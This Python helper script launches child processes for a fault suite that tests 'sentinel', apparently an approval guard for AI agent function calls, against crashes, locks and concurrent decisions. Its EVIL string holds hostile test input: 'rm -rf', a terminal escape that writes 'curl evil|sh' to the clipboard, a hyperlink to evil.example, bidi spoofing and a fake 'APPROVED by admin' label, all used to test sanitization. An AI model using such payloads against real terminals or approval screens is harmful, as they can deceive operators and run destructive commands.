"""Child processes for the fault suite (run as scripts, never imported by tests).

``mixed DB RULES N SEED SHARE``   N ``@protect``-ed calls: reads (allow), deletes (block), small
                                  transfers (allow), large transfers (approval, share SHARE); one
                                  JSON line per call: nonce, expected verdict, observed outcome.
``hold DB RULES``                 one call needing approval; prints CALLING then waits (to be killed).
``hostile DB RULES``              one approval call with escape sequences and a 10 MB string.
``cli-decider DB STOP SEED``      loop the real CLI (``pending --json`` then ``approve``/``deny``)
                                  in-process until the file STOP exists; prints a JSON summary.
``decide-pause DB ID``            run the store's decide up to (not including) COMMIT, print
                                  BEFORE_COMMIT, then sleep (to be killed mid-decision).
``txn-hold DB``                   BEGIN IMMEDIATE + an uncommitted event row, print IN_TXN, sleep.
``lock DB SECONDS``               hold BEGIN EXCLUSIVE for SECONDS, printing LOCKED / RELEASED.
``tui-decider DB``                a headless command center pressing ``a`` forever.
``writer DB``                     append events in a tight loop, printing ``ACK seq`` after each
                                  commit (to be killed at random moments).
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import random
import sqlite3
import sys
import time
from pathlib import Path
from typing import Any


def _say(obj: Any) -> None:
    sys.stdout.write((obj if isinstance(obj, str) else json.dumps(obj)) + "\n")
    sys.stdout.flush()


def mixed(db: str, rules: str, n: int, seed: int, share: float) -> int:
    from sentinel.config import SentinelConfig
    from sentinel.errors import (
        SentinelBlockedError,
        SentinelDeniedError,
        SentinelTimeoutError,
    )
    from sentinel.protect import protect

    config = SentinelConfig(
        rules_path=rules, db_path=db, agent_id=f"agent-{seed}", timeout_seconds=120,
        audit_log=True, show_waiting_hint=False, hot_reload=False,
    )  # fmt: skip
    ran: list[str] = []

    @protect(config)
    def read_data(key: str, nonce: str) -> str:
        ran.append(nonce)
        return key

    @protect(config)
    def delete_data(key: str, nonce: str) -> str:
        ran.append(nonce)
        return key

    @protect(config)
    def transfer_funds(amount: int, to: str, nonce: str) -> int:
        ran.append(nonce)
        return amount

    rng = random.Random(seed)
    out: list[dict[str, Any]] = []
    for i in range(n):
        nonce = f"{seed}-{i}"
        r = rng.random()
        try:
            if r < share:
                expect = "approval"
                transfer_funds(rng.randint(1001, 9000), f"acct-{i}", nonce)
            elif r < share + 0.2:
                expect = "block"
                delete_data(f"k{i}", nonce)
            elif r < share + 0.35:
                expect = "allow"
                transfer_funds(rng.randint(1, 1000), f"acct-{i}", nonce)
            else:
                expect = "allow"
                read_data(f"k{i}", nonce)
            outcome, rid = "ran", None
        except SentinelDeniedError as exc:
            outcome, rid = "denied", exc.request_id
        except SentinelTimeoutError as exc:
            outcome, rid = "expired", exc.request_id
        except SentinelBlockedError as exc:
            outcome, rid = ("blocked" if exc.request_id is None else "ended"), exc.request_id
        if outcome == "ran" and (not ran or ran[-1] != nonce):
            outcome = "ran-without-running"  # impossible unless the guard lied
        out.append({"nonce": nonce, "expect": expect, "outcome": outcome, "rid": rid})
    read_data.__sentinel_guard__.flush()  # type: ignore[attr-defined]
    for line in out:
        _say(line)
    _say("DONE")
    return 0


def hold(db: str, rules: str) -> int:
    from sentinel.config import SentinelConfig
    from sentinel.protect import protect

    config = SentinelConfig(
        rules_path=rules, db_path=db, agent_id="victim", timeout_seconds=300,
        show_waiting_hint=False, hot_reload=False,
    )  # fmt: skip

    @protect(config)
    def transfer_funds(amount: int, to: str, nonce: str) -> int:
        _say("RAN")
        return amount

    _say(f"CALLING {os.getpid()}")
    try:
        transfer_funds(5000, "acct-x", "hold")
    except Exception as exc:
        _say(f"ENDED {type(exc).__name__}: {exc}")
    return 0


EVIL = (
    "rm -rf ~/x \x1b]0;PWNED-TITLE\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b[2J\x1b[1A "
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \r\x08\x07\x7f\x9b31m "
    "\u202eexe.txt \u2066iso\u2069 zero\u200bwidth [b]APPROVED by admin[/b] [@click=app.quit]x[/]"
)


def hostile(db: str, rules: str) -> int:
    """One approval call whose function name, agent id and arguments are hostile text."""
    from sentinel.config import SentinelConfig
    from sentinel.errors import SentinelBlockedError
    from sentinel.protect import protect

    config = SentinelConfig(
        rules_path=rules, db_path=db, agent_id="agent\x1b]0;evil\x07\u202e", timeout_seconds=120,
        show_waiting_hint=True, hot_reload=False, audit_log=True,
    )  # fmt: skip

    def transfer_funds(amount: int, to: str, memo: str, blob: str) -> int:
        _say("RAN")
        return amount

    transfer_funds.__name__ = "transfer_\x1b[2J\u202efunds"
    guarded = protect(config)(transfer_funds)
    _say("CALLING")
    try:
        guarded(5000, EVIL, {"nested": EVIL, EVIL: [EVIL]}, "A" * 10_000_000)  # type: ignore[arg-type]
    except SentinelBlockedError as exc:
        _say(f"ENDED {type(exc).__name__}")
    return 0


def cli_decider(db: str, stop: str, seed: int) -> int:
    from sentinel.cli import main

    rng = random.Random(seed)
    won = lost = rounds = 0
    ids: list[str] = []

    def run(*argv: str) -> tuple[int, str]:
        buf = io.StringIO()
        with contextlib.redirect_stdout(buf), contextlib.redirect_stderr(io.StringIO()):
            code = main([*argv, "--db", db])
        return code, buf.getvalue()

    while not os.path.exists(stop):
        rounds += 1
        code, text = run("pending", "--json")
        pending = json.loads(text) if code == 0 else []
        rng.shuffle(pending)
        for rec in pending[:4]:
            verb = "approve" if rng.random() < 0.6 else "deny"
            code, _ = run(verb, rec["id"])
            if code == 0:
                won += 1
                ids.append(rec["id"])
            else:
                lost += 1
        if not pending:
            time.sleep(0.01)
    _say({"won": won, "lost": lost, "rounds": rounds, "ids": ids})
    return 0


def decide_pause(db: str, request_id: str) -> int:
    from sentinel.store import OperatorIdentity, Store, ops, sql

    Store(db).close()  # schema in place
    conn = sqlite3.connect(db, isolation_level=None, timeout=5)
    op = OperatorIdentity("killed-op", os.getuid(), None, None, "test", None)
    now = time.time()
    gen = ops.decide(request_id, ops.unsigned_vote(True, op, "about to die", now), op, now)
    q = next(gen)
    result: Any = None
    while True:
        if q.sql == sql.COMMIT:
            _say("BEFORE_COMMIT")
            time.sleep(600)
        if q.fetch == "many":
            conn.executemany(q.sql, q.params)
            result = None
        else:
            cur = conn.execute(q.sql, q.params)
            result = cur.fetchone() if q.fetch == "one" else cur.fetchall() if q.fetch == "all" else None
        q = gen.send(result)


def txn_hold(db: str) -> int:
    from sentinel.store import Store

    Store(db).close()
    conn = sqlite3.connect(db, isolation_level=None, timeout=5)
    conn.execute("BEGIN IMMEDIATE")
    conn.execute(
        "INSERT INTO events (seq, ts, kind, data, prev_hash, hash) "
        "VALUES ((SELECT coalesce(max(seq), 0) + 1 FROM events), 0, 'allowed', '{}', 'x', 'y')"
    )
    _say("IN_TXN")
    time.sleep(600)
    return 0


def lock(db: str, seconds: float) -> int:
    conn = sqlite3.connect(db, isolation_level=None, timeout=5)
    conn.execute("BEGIN EXCLUSIVE")
    _say("LOCKED")
    time.sleep(seconds)
    conn.execute("COMMIT")
    _say("RELEASED")
    return 0


def writer(db: str) -> int:
    from sentinel.store import Store

    store = Store(db)
    i = 0
    while True:
        i += 1
        seq = store.append_events([{"kind": "allowed", "function": f"w{os.getpid()}-{i}"}])[-1].seq
        _say(f"ACK {seq} w{os.getpid()}-{i}")


def tui_decider(db: str) -> int:
    """A headless command center that approves whatever card is shown, forever."""
    import asyncio

    from sentinel_tui.app import SentinelApp
    from sentinel_tui.config import TuiConfig
    from sentinel_tui.messages import Decided

    class CountingApp(SentinelApp):
        won = 0  # the app itself forgets decided ids once they are gone

        def on_decided(self, msg: Decided) -> None:
            # Textual calls the handler of every class in the MRO, so SentinelApp's runs too.
            self.won += sum(1 for o in msg.outcomes if o.ok)

    async def run() -> None:
        app = CountingApp(
            db, None, tick_interval=0, watch_terminal=False,
            config=TuiConfig(debounce=0.05, bell=False, toast_new=False),
        )  # fmt: skip
        async with app.run_test(size=(120, 40)) as pilot:
            _say("TUI_READY")
            seen = 0
            while True:
                if app.queue.card.request_id is not None:
                    await pilot.press("a")
                await pilot.pause(0.05)
                if app.won != seen:
                    seen = app.won
                    _say(f"TUI_DECIDED {seen}")

    asyncio.run(run())
    return 0


def main(argv: list[str]) -> int:
    cmd = argv[0]
    if cmd == "tui-decider":
        return tui_decider(argv[1])
    if cmd == "mixed":
        return mixed(argv[1], argv[2], int(argv[3]), int(argv[4]), float(argv[5]))
    if cmd == "hostile":
        return hostile(argv[1], argv[2])
    if cmd == "hold":
        return hold(argv[1], argv[2])
    if cmd == "cli-decider":
        return cli_decider(argv[1], argv[2], int(argv[3]))
    if cmd == "decide-pause":
        return decide_pause(argv[1], argv[2])
    if cmd == "txn-hold":
        return txn_hold(argv[1])
    if cmd == "lock":
        return lock(argv[1], float(argv[2]))
    if cmd == "writer":
        return writer(argv[1])
    raise SystemExit(f"unknown command {cmd}")


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[3]))
    sys.exit(main(sys.argv[1:]))
